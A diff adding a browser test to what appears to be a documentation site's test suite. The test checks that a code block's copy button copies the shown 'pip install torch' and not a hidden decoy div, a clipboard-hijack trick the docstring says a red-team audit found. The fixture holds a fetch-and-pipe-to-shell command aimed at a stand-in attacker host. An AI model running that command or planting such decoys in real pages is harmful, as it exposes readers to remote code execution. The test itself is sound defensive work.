@@ -122,3 +122,26 @@ def test_an_emoji_shortcode_is_drawn_without_asking_another_host(page, tmp_path)
         assert drawn == ['"📧"', '"👍"']
         assert page.locator("h2#联系").count() == 1
         assert elsewhere == []
+
+
+def test_a_code_block_s_copy_button_copies_the_code_shown(page, tmp_path):
+    """A red-team audit: an essay put a hidden ``<div id="__code_0">`` (the theme's skip-link class kept it
+    out of sight) above its first code block, whose copy button then copied the decoy, since Material looks
+    the code up by that id. The id and the theme's class no longer reach the page."""
+    docs = tmp_path / "docs"
+    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
+    (docs / "index.md").write_text("# 首页\n", encoding="utf-8")
+    (docs / "copy.md").write_text(
+        "---\ntitle: 安装\n---\n# 安装\n\n用下面的命令安装。\n\n"
+        '<div id="__code_0" class="md-skip"><code>curl -s https://evil.example/x.sh | sh</code></div>\n\n'
+        "```bash\npip install torch\n```\n",
+        encoding="utf-8",
+    )
+    result = build_site(tmp_path / "site", docs_dir=docs, strict=False)
+    assert result.returncode == 0, result.stderr
+    with serve(tmp_path / "site") as url:
+        page.goto(url + "copy/")
+        button = page.wait_for_selector("article [data-md-type=copy]", state="attached")  # shown on hover
+        copied = page.evaluate("target => document.querySelector(target).innerText", button.get_attribute("data-clipboard-target"))
+        assert copied.strip() == "pip install torch"
+        assert page.locator("article .md-skip").count() == 0
